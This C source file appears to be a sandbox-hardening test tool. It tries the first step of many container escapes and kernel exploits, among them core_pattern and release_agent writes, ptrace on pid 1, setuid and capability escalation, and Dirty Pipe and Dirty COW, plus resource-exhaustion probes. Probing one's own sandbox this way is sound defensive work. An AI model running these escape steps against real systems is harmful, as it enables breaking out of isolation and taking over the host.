// Ways out of a sandbox, or to the host's kernel: the first step of each, which succeeds or not and does no harm.
// Every one is tried in a process of its own; a line says its name and 0 (it works) or the errno.
//
//	attacks [NAME...]
//	attacks take processes|memory|disk|files|names MOST    says how many, or how many MiB, it got
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/btrfs.h>
#include <linux/capability.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/klog.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

static int opens(const char *path, int flags) { return open(path, flags | O_CLOEXEC) < 0; }

// /proc and /sys that are the whole host's.
static int core_pattern(void) { return opens("/proc/sys/kernel/core_pattern", O_WRONLY); }
static int modprobe_path(void) { return opens("/proc/sys/kernel/modprobe", O_WRONLY); }
static int sysrq(void) { return opens("/proc/sysrq-trigger", O_WRONLY); }
static int kcore(void) { return opens("/proc/kcore", O_RDONLY); }
static int drop_caches(void) { return opens("/proc/sys/vm/drop_caches", O_WRONLY); }
static int sysfs(void) { return opens("/sys/kernel/mm/transparent_hugepage/enabled", O_WRONLY); }
static int proc_remount(void) { return mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL); }
static int proc_unmask(void) { return umount2("/proc/sys", MNT_DETACH); }
static int more_namespaces(void) { return opens("/proc/sys/user/max_user_namespaces", O_WRONLY); }

// Mounts.
static int mount_tmpfs(void) { return mount("t", "/tmp", "tmpfs", 0, NULL); }
static int mount_bind(void) { return mount("/proc", "/tmp", NULL, MS_BIND, NULL); }
static int mount_proc(void) { return mount("p", "/tmp", "proc", 0, NULL); }
static int mount_binfmt(void) { return mount("b", "/tmp", "binfmt_misc", 0, NULL); }
static int release_agent(void) { return mount("c", "/tmp", "cgroup", 0, "memory") && mount("c", "/tmp", "cgroup2", 0, NULL); }
static int fs_open(void) { return syscall(SYS_fsopen, "tmpfs", 0) < 0; }
static int open_tree_(void) { return syscall(SYS_open_tree, AT_FDCWD, "/", 1) < 0; }
static int pivot(void) { return mkdir("/tmp/pivot", 0755) && errno != EEXIST ? 1 : syscall(SYS_pivot_root, "/tmp/pivot", "/tmp/pivot") < 0 && errno != EINVAL; }

// Devices.
static int disk_node(void)
{
	unlink("/tmp/disk");
	if (mknod("/tmp/disk", S_IFBLK | 0600, makedev(7, 0)))
		return 1;
	int r = opens("/tmp/disk", O_RDONLY);
	return r && errno == ENXIO ? 0 : r; // a driver was asked
}
static int memory_node(void)
{
	unlink("/tmp/mem");
	return mknod("/tmp/mem", S_IFCHR | 0600, makedev(1, 1)) || opens("/tmp/mem", O_RDONLY);
}
static int kmsg(void) { return klogctl(3, (char[64]){0}, 64) < 0; }
static int ports(void) { return syscall(SYS_ioperm, 0x80, 1, 1) < 0; }

// Namespaces.
static int user_namespace(void) { return unshare(CLONE_NEWUSER); }
static int net_namespace(void) { return unshare(CLONE_NEWNET); }
static int clones(long flags)
{
	long pid = syscall(SYS_clone, flags | SIGCHLD, 0, 0, 0, 0);
	if (pid == 0)
		_exit(0);
	return pid < 0;
}
static int clone_user(void) { return clones(CLONE_NEWUSER); }
static int clone3_user(void)
{
	uint64_t a[11] = {CLONE_NEWUSER, [4] = SIGCHLD};
	long pid = syscall(SYS_clone3, a, sizeof a);
	if (pid == 0)
		_exit(0);
	return pid < 0;
}
static int join_pid1(void)
{
	int fd = open("/proc/1/ns/mnt", O_RDONLY | O_CLOEXEC);
	return fd < 0 || setns(fd, 0);
}

// Other processes: pid 1 is the host's own program in the sandbox.
static int trace_pid1(void) { return ptrace(PTRACE_SEIZE, 1, 0, 0) != 0; }
static int read_pid1(void)
{
	char b;
	struct iovec l = {&b, 1}, r = {(void *)0x400000, 1};
	return process_vm_readv(1, &l, 1, &r, 1, 0) != 1 && errno != EFAULT;
}
static int memory_of_pid1(void) { return opens("/proc/1/mem", O_RDONLY); }
static int root_of_pid1(void) { return opens("/proc/1/root/etc", O_RDONLY); }
static int files_of_pid1(void) { return opens("/proc/1/fd", O_RDONLY); }
static int program_of_pid1(void) { return opens("/proc/1/exe", O_RDONLY); }
static int overwrite_pid1(void) { return opens("/run/box/boxinit", O_WRONLY); }
static int limit_pid1(void) { return syscall(SYS_prlimit64, 1, RLIMIT_NOFILE, &(struct rlimit){1, 1}, NULL) < 0; }
static int kill_pid1(void) { return kill(1, SIGKILL) ? 1 : (errno = EPERM, 1); } // the kernel drops it
static int stolen_descriptor(void) { return syscall(SYS_pidfd_getfd, syscall(SYS_pidfd_open, 1, 0), 4, 0) < 0; }

// Files by other ways than paths.
static int by_handle(void)
{
	struct {
		struct file_handle h;
		char b[128];
	} f = {.h.handle_bytes = 128};
	int id, fd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (name_to_handle_at(AT_FDCWD, "/", &f.h, &id, 0)) { // overlays make none here: one of inode 2, as on a disk
		f.h.handle_bytes = 8;
		f.h.handle_type = 1;
		memcpy(f.h.f_handle, (int[]){2, 0}, 8);
	}
	return open_by_handle_at(fd, &f.h, O_RDONLY) < 0 && errno == EPERM;
}
static int out_of_chroot(void)
{
	struct stat root, far;
	if (stat("/", &root) || (mkdir("/tmp/jail", 0755) && errno != EEXIST) || chdir("/") || chroot("/tmp/jail"))
		return 1;
	for (int i = 0; i < 100; i++)
		if (chdir(".."))
			return 1;
	if (stat(".", &far))
		return 1;
	errno = ENOENT;
	return far.st_ino == root.st_ino && far.st_dev == root.st_dev; // as far as the sandbox's own root
}
static int left_descriptors(void)
{
	for (int fd = 3; fd < 64; fd++) // 3 and 4 are ours, if anybody's
		if (fcntl(fd, F_GETFD) >= 0 && fd > 4)
			return 0;
	errno = EBADF;
	return 1;
}

// btrfs, on which the files of a sandbox lie.
static int on_root(unsigned long request, void *arg)
{
	int fd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	return ioctl(fd, request, arg) < 0;
}
static int subvolume(void) { return on_root(BTRFS_IOC_SUBVOL_CREATE, &(struct btrfs_ioctl_vol_args){.name = "v"}); }
static int snapshot(void) { return on_root(BTRFS_IOC_SNAP_CREATE_V2, &(struct btrfs_ioctl_vol_args_v2){.fd = 3, .name = "v"}); }
static int quota_off(void) { return on_root(BTRFS_IOC_QUOTA_CTL, &(struct btrfs_ioctl_quota_ctl_args){.cmd = BTRFS_QUOTA_CTL_DISABLE}); }
static int quota_limit(void) { return on_root(BTRFS_IOC_QGROUP_LIMIT, &(struct btrfs_ioctl_qgroup_limit_args){0}); }
static int search(void) { return on_root(BTRFS_IOC_TREE_SEARCH, &(struct btrfs_ioctl_search_args){.key.nr_items = 1}); }
static int defrag(void) { return on_root(BTRFS_IOC_DEFRAG, NULL); }
static int sends(void) { return on_root(BTRFS_IOC_SEND, &(struct btrfs_ioctl_send_args){.send_fd = 1}); }

// Blocks that were another's: what a file has been given and nobody wrote, and what lies behind its end.
static int stale_blocks(void)
{
	static unsigned char block[1 << 20];
	int fd = open("/root/stale", O_RDWR | O_CREAT | O_TRUNC | O_CLOEXEC, 0600), found = 0;
	if (fd < 0 || posix_fallocate(fd, 0, 8 << 20) || pwrite(fd, "x", 1, (8 << 20) + 1) != 1)
		return 1;
	for (int i = 0; i < 9; i++)
		for (ssize_t n = pread(fd, block, sizeof block, (off_t)i << 20); n > 0; n--)
			found |= block[n - 1] && !(i == 8 && n == 2);
	close(fd);
	unlink("/root/stale");
	errno = ENODATA;
	return !found;
}

// The daemon, by the names that it may have.
static int calls_on(const char *path, size_t n)
{
	struct sockaddr_un a = {.sun_family = AF_UNIX};
	memcpy(a.sun_path, path, n);
	return connect(socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0), (struct sockaddr *)&a, offsetof(struct sockaddr_un, sun_path) + n);
}
static int daemon_socket(void)
{
	return calls_on("\0boxwood", 8) && calls_on("/var/run/boxwood/boxwood.sock", 30) && calls_on("/run/boxwood.sock", 18) && calls_on("/run/boxwood/boxwood.sock", 26);
}

// To be pid 1's daemon, or the daemon's pid 1.
static int control_socket(void)
{
	struct sockaddr_un a = {.sun_family = AF_UNIX, .sun_path = "/run/box/init.sock"};
	return connect(socket(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0), (struct sockaddr *)&a, sizeof a);
}
static int false_pid1(void)
{
	struct sockaddr_un a = {.sun_family = AF_UNIX, .sun_path = "/run/box/false.sock"};
	return bind(socket(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0), (struct sockaddr *)&a, sizeof a);
}
static int moved_control(void) { return rename("/run/box", "/run/moved"); }

// The kernel's wider surface.
static int io_uring(void) { return syscall(SYS_io_uring_setup, 1, (char[120]){0}) < 0; }
static int keyring(void) { return syscall(SYS_add_key, "user", "k", "v", 1, -3) < 0; }
static int userfault(void) { return syscall(SYS_userfaultfd, 1) < 0; }
static int bpf(void) { return syscall(SYS_bpf, 0, (int[32]){1, 4, 4, 1}, 128) < 0; }
static int perf(void) { return syscall(SYS_perf_event_open, (int[32]){1, 112, 1}, -1, 0, -1, 0) < 0; }
static int module(void) { return syscall(SYS_init_module, "", 0, "") < 0 && errno == EPERM; }
static int alg(void) { return socket(AF_ALG, SOCK_SEQPACKET, 0) < 0; }
static int vsock(void) { return socket(AF_VSOCK, SOCK_STREAM, 0) < 0; }
static int packet(void) { return socket(AF_PACKET, SOCK_RAW, 0) < 0; }

// What is the whole host's.
static int set_clock(void)
{
	struct timespec now;
	return clock_gettime(CLOCK_REALTIME, &now) || clock_settime(CLOCK_REALTIME, &now);
}
static int set_name(void) { return sethostname("attacker", 8); }
static int realtime(void) { return sched_setscheduler(0, SCHED_FIFO, &(struct sched_param){1}); }
static int nice_(void) { return setpriority(PRIO_PROCESS, 0, -20); }
static int spare_me(void)
{
	int fd = open("/proc/self/oom_score_adj", O_WRONLY | O_CLOEXEC);
	return fd < 0 || write(fd, "-1000", 5) < 0;
}
static int more_files(void) { return setrlimit(RLIMIT_NOFILE, &(struct rlimit){600000, 600000}); }
static int more_capabilities(void)
{
	struct __user_cap_header_struct h = {.version = _LINUX_CAPABILITY_VERSION_3};
	struct __user_cap_data_struct d[2];
	if (syscall(SYS_capget, &h, d))
		return 1;
	d[0].permitted |= 1 << CAP_SYS_ADMIN;
	d[0].effective |= 1 << CAP_SYS_ADMIN;
	return syscall(SYS_capset, &h, d) < 0;
}

// The sandbox's root, for another user of it: by a program that is given root's rights.
static int copy_of_self(const char *path)
{
	struct stat st;
	int in = open("/proc/self/exe", O_RDONLY | O_CLOEXEC), out = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
	return in < 0 || out < 0 || fstat(in, &st) || sendfile(out, in, NULL, st.st_size) != st.st_size || close(in) || close(out);
}
static int as_user(const char *path)
{
	int status;
	if (setgroups(0, NULL) || setresgid(1000, 1000, 1000) || setresuid(1000, 1000, 1000))
		return 1;
	pid_t pid = fork();
	if (pid == 0) {
		execl(path, path, "become root", NULL);
		_exit(errno);
	}
	if (pid < 0 || waitpid(pid, &status, 0) != pid)
		return 1;
	errno = WIFEXITED(status) ? WEXITSTATUS(status) : EINTR;
	return errno != 0;
}
static int setuid_program(void) { return copy_of_self("/tmp/setuid") || chmod("/tmp/setuid", 04755) || as_user("/tmp/setuid"); }
static int capable_program(void)
{
	struct vfs_cap_data d = {.magic_etc = VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE, .data[0].permitted = 1 << CAP_SETUID};
	return copy_of_self("/tmp/capable") || setxattr("/tmp/capable", "security.capability", &d, XATTR_CAPS_SZ_2, 0) || as_user("/tmp/capable");
}

// Files that may only be read, by holes that kernels had: a pipe that takes what is written to it for a page of the file, and
// a race between a write to memory and its being thrown away.
static int may_be_read(const char *path)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0444);
	return fd < 0 || write(fd, "aaaa", 4) != 4 || close(fd) ? -1 : open(path, O_RDONLY | O_CLOEXEC);
}
static int unchanged(int fd)
{
	char now[4];
	errno = EROFS;
	return pread(fd, now, 4, 0) != 4 || !memcmp(now, "aaaa", 4);
}
static int dirty_pipe(void)
{
	static char block[4096];
	int p[2], fd = may_be_read("/tmp/pipe"), n = 0;
	loff_t at = 0;
	if (fd < 0 || pipe(p))
		return 1;
	for (int size = fcntl(p[1], F_GETPIPE_SZ); n < size; n += sizeof block)
		if (write(p[1], block, sizeof block) != sizeof block)
			return 1;
	for (; n > 0; n -= sizeof block)
		if (read(p[0], block, sizeof block) != sizeof block)
			return 1;
	return splice(fd, &at, p[1], NULL, 1, 0) != 1 || write(p[1], "x", 1) != 1 || unchanged(fd);
}
static void *page;
static void *forgets(void *end)
{
	while (!*(volatile int *)end)
		madvise(page, 4096, MADV_DONTNEED);
	return NULL;
}
static int dirty_cow(void)
{
	static int end;
	pthread_t t;
	int fd = may_be_read("/tmp/cow"), mem = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
	page = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
	if (fd < 0 || mem < 0 || page == MAP_FAILED || pthread_create(&t, NULL, forgets, &end))
		return 1;
	for (int i = 0; i < 20000; i++)
		if (pwrite(mem, "xxxx", 4, (off_t)page) != 4)
			return 1;
	end = 1;
	return pthread_join(t, NULL) || unchanged(fd);
}
static int other_group(void) { return opens("/sys/fs/cgroup/cgroup.procs", O_WRONLY) && opens("/sys/fs/cgroup/unified/cgroup.procs", O_WRONLY); }

#define A(f) {#f, f}
static const struct {
	const char *name;
	int (*try)(void);
} attacks[] = {
	A(core_pattern), A(modprobe_path), A(sysrq), A(kcore), A(drop_caches), A(sysfs), A(proc_remount), A(proc_unmask), A(more_namespaces),
	A(mount_tmpfs), A(mount_bind), A(mount_proc), A(mount_binfmt), A(release_agent), A(fs_open), A(open_tree_), A(pivot),
	A(disk_node), A(memory_node), A(kmsg), A(ports),
	A(user_namespace), A(net_namespace), A(clone_user), A(clone3_user), A(join_pid1),
	A(trace_pid1), A(read_pid1), A(memory_of_pid1), A(root_of_pid1), A(files_of_pid1), A(program_of_pid1), A(overwrite_pid1), A(limit_pid1),
	A(kill_pid1), A(stolen_descriptor),
	A(by_handle), A(out_of_chroot), A(left_descriptors),
	A(subvolume), A(snapshot), A(quota_off), A(quota_limit), A(search), A(defrag), A(sends),
	A(stale_blocks), A(daemon_socket), A(control_socket), A(false_pid1), A(moved_control),
	A(io_uring), A(keyring), A(userfault), A(bpf), A(perf), A(module), A(alg), A(vsock), A(packet),
	A(set_clock), A(set_name), A(realtime), A(nice_), A(spare_me), A(more_files), A(more_capabilities), A(other_group), A(setuid_program), A(capable_program),
	A(dirty_pipe), A(dirty_cow),
};

// How far one gets: each takes until it is refused, or has as much as it was told, and gives it back.
static int take_processes(int most)
{
	int n = 0;
	while (n < most) {
		pid_t pid = fork();
		if (pid < 0)
			break;
		if (pid == 0) {
			pause();
			_exit(0);
		}
		n++;
	}
	signal(SIGTERM, SIG_IGN);
	kill(0, SIGTERM);
	while (wait(NULL) > 0)
		;
	return n;
}

static int take_memory(int most)
{
	volatile int *n = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	pid_t pid = fork();
	if (pid == 0) {
		for (; *n < most; ++*n)
			memset(mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0), 1, 1 << 20);
		_exit(0);
	}
	waitpid(pid, NULL, 0);
	return *n;
}

static int take_disk(int most)
{
	static char block[1 << 20];
	int n = 0, fd = open("/root/big", O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
	for (; n < most; n++) {
		for (size_t i = 0; i < sizeof block; i += 8)
			*(uint64_t *)(block + i) = i * 0x9e3779b97f4a7c15 + n;
		if (write(fd, block, sizeof block) != sizeof block)
			break;
	}
	close(fd);
	unlink("/root/big");
	return n;
}

// Names of empty files have no bytes: what bounds them is what the file system needs to keep them.
static int take_names(int most)
{
	char path[64];
	int n = 0;
	mkdir("/root/names", 0700);
	for (; n < most; n++) {
		snprintf(path, sizeof path, "/root/names/%d", n);
		int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
		if (fd < 0)
			break;
		close(fd);
	}
	return n;
}

static int take_files(int most)
{
	int n = 0;
	while (n < most && dup(0) >= 0)
		n++;
	return n;
}

static const struct {
	const char *name;
	int (*take)(int);
} greed[] = {{"processes", take_processes}, {"memory", take_memory}, {"disk", take_disk}, {"files", take_files}, {"names", take_names}};

int main(int argc, char **argv)
{
	if (argc == 2 && !strcmp(argv[1], "become root"))
		return setuid(0) ? errno : 0;
	for (size_t i = 0; argc == 4 && i < sizeof greed / sizeof *greed; i++)
		if (!strcmp(argv[1], "take") && !strcmp(argv[2], greed[i].name)) {
			printf("%d\n", greed[i].take(atoi(argv[3])));
			return 0;
		}
	for (size_t i = 0; i < sizeof attacks / sizeof *attacks; i++) {
		int p[2], why = -1, wanted = argc == 1;
		for (int k = 1; k < argc; k++)
			wanted |= !strcmp(argv[k], attacks[i].name);
		if (!wanted)
			continue;
		if (pipe(p) || fflush(stdout))
			return 1;
		pid_t pid = fork();
		if (pid < 0)
			return 1;
		if (pid == 0) {
			close(p[0]);
			why = attacks[i].try() ? errno : 0;
			_exit(write(p[1], &why, sizeof why) != sizeof why);
		}
		close(p[1]);
		if (read(p[0], &why, sizeof why) != sizeof why)
			why = -1;
		close(p[0]);
		waitpid(pid, NULL, 0);
		printf("%s %d\n", attacks[i].name, why);
	}
	return 0;
}
